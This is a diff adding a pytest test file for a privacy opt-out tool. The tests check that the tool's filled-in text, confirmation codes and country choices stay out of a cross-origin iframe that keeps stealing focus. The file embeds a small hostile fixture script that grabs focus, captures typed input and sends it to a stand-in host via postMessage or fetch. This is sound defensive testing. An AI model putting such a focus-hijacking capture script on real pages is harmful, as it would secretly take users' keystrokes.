@@ -1,0 +1,159 @@
+"""A frame of another site that keeps taking the cursor: what is filled in stays out of it.
+
+A captcha, a chat or an advertisement may call `focus()` at any moment, without a click.
+"""
+
+import contextlib
+from collections.abc import Awaitable, Callable
+
+import pytest
+from playwright.async_api import Error, Page
+from support.headless_run import HeadlessRun, headless
+from support.hostile_site import FORM, HostileSite
+from support.locate_site import Site, document, permits
+from support.locating import locating, site
+from support.world import EMAIL, World
+
+from optout.page.fields import choose_country, fill_code, held_by, inspect_field, put_text
+
+__all__ = ["headless", "locating", "site"]
+
+# As often as a page can: a message to itself, as a timer is held to 4 ms.
+_TAKES = """<input id=box><script>
+const again = new MessageChannel();
+again.port1.onmessage = () => { box.focus(); setTimeout(() => again.port2.postMessage(0)); };
+again.port2.postMessage(0);
+box.onfocus = () => { keep('the cursor'); box.onfocus = null; };
+box.oninput = () => { keep(box.value); box.value = ''; };
+const keep = got => KEEP;
+</script>"""
+OTHER = "https://other.test/"
+FRAMES = {OTHER: _TAKES.replace("KEEP", "parent.postMessage(got, '*')")}
+FRAME = f"""<script>window.got = []; onmessage = e => got.push(e.data);</script>
+<iframe src="{OTHER}"></iframe>"""
+ROUNDS = 10
+
+LETTER = "Madame, Monsieur,\n\nJe m’oppose au traitement de mes données.\nPrénom Nom"
+BOXES = {
+    "an address": ("<input type=email id=f>", EMAIL),
+    "a name": ("<input id=f>", "Prénom Nom"),
+    "a letter": ("<textarea id=f></textarea>", LETTER),
+    "an editor": ("<div id=f contenteditable></div>", LETTER),
+    "a shadow root": (
+        "<p id=s></p><script>s.attachShadow({mode: 'open'}).innerHTML = "
+        "'<textarea id=f></textarea>'</script>",
+        LETTER,
+    ),
+}
+CODES = {"one box": "<input>", "six boxes": "<input maxlength=1>" * 6}
+CODE = "482915"
+
+
+def _got(site: Site, body: str, act: Callable[[Page], Awaitable[object]]) -> str:
+    """What the other site got while `act` was done in a page with this body."""
+
+    async def whole(page: Page) -> str:
+        await page.wait_for_function("got.includes('the cursor')")
+        await act(page)
+        return "".join(got for got in await page.evaluate("got") if got != "the cursor")
+
+    return str(site.visit(document(body + FRAME), whole, FRAMES))
+
+
+@pytest.mark.parametrize("kind", BOXES)
+def test_a_text_goes_into_its_field_alone(site: Site, kind: str) -> None:
+    box, text = BOXES[kind]
+
+    async def fills(page: Page) -> None:
+        field = await page.wait_for_selector("#f")
+        assert field
+        for _ in range(ROUNDS):
+            await put_text(field, text, permits)
+            (held,) = await held_by([field])
+            assert held
+            assert held.text.split() == text.split()
+
+    assert _got(site, box, fills) == ""
+
+
+@pytest.mark.parametrize("boxes", CODES)
+def test_a_code_goes_into_its_boxes_alone(site: Site, boxes: str) -> None:
+    async def fills(page: Page) -> None:
+        for _ in range(ROUNDS):
+            assert await fill_code(await page.query_selector_all("input"), CODE, permits) == CODE
+
+    assert _got(site, CODES[boxes], fills) == ""
+
+
+@pytest.mark.parametrize("box", ["<input id=f>", "<input id=f role=combobox>"])
+def test_a_country_goes_into_its_field_alone(site: Site, box: str) -> None:
+    async def fills(page: Page) -> None:
+        field = await page.query_selector("#f")
+        assert field
+        info = await inspect_field(field)
+        for _ in range(3):
+            await choose_country(field, info, "FR", ["en"], permits, contextlib.nullcontext)
+
+    assert _got(site, box, fills) == ""
+
+
+@pytest.mark.parametrize("kind", ["an address", "a letter", "an editor"])
+def test_keys_would_go_to_the_other_site(site: Site, kind: str) -> None:
+    """What the tests above would see: the driver's own way sends the text as keys."""
+    box, text = BOXES[kind]
+
+    async def fills(page: Page) -> None:
+        for _ in range(ROUNDS):
+            with contextlib.suppress(Error):
+                await page.fill("#f", text, timeout=1000)
+
+    assert text.split()[0] in _got(site, box, fills)
+
+
+_CODE_FORM = """<h1>Confirm your objection</h1>
+<p>Enter the 6-digit code that we sent to your email address.</p>
+<form method="post" action="/code"><p><label>Confirmation code
+<input name="code" inputmode="numeric" autocomplete="one-time-code" required></label></p>
+<button>Confirm</button></form>"""
+_THANKS = "<h1>Thank you</h1><p>We have received your objection.</p>"
+_SENDS = """<script>addEventListener('input', e => { if (e.target.matches('textarea'))
+  setTimeout(() => document.forms[0].requestSubmit(), 4000); });</script>"""
+_WITH_FRAME = "<iframe src='{foreign}/takes'></iframe>"
+PAGES = {
+    "/": FORM + _WITH_FRAME + _SENDS,
+    "/send": _CODE_FORM + _WITH_FRAME,
+    "/code": _THANKS,
+    "/takes": _TAKES.replace("KEEP", "fetch('/got?' + encodeURIComponent(got))"),
+}
+
+
+def _stayed_at_home(site: HostileSite) -> None:
+    """The form got all of it, the other site the cursor and nothing else."""
+    taken = [request for request in site.requests if "/got" in request]
+    assert taken
+    assert {request.split("/got?")[1].strip() for request in taken} == {"the%20cursor"}
+    sent = [r for r in site.requests if "/send" in r or "/code" in r]
+    assert [r for r in sent if "prenom.nom" in r and "explanation=" in r], site.requests
+    assert [r for r in sent if CODE in r], site.requests
+
+
+def test_a_run_fills_in_its_own_form_alone(headless: HeadlessRun) -> None:
+    headless.person.codes = [CODE]
+    with HostileSite(PAGES) as site:
+        result = headless.run(site.own + "/")
+        assert (result.state, result.exit) == ("acknowledged", 0)
+        _stayed_at_home(site)
+
+
+@pytest.mark.headed
+def test_a_run_in_a_window_fills_in_its_own_form_alone(world: World) -> None:
+    with HostileSite(PAGES) as site:
+        tool = world.run("facebook", "--url", site.own + "/")
+        tool.expect("Paste the code", timeout=60)
+        tool.type(CODE)
+        tool.expect("has received your objection", timeout=60)
+        tool.expect("Erase this sign-in", timeout=60)
+        tool.type("")
+        assert tool.exit(timeout=60) == 0
+        _stayed_at_home(site)
+    assert world.record()["state"] == "acknowledged"
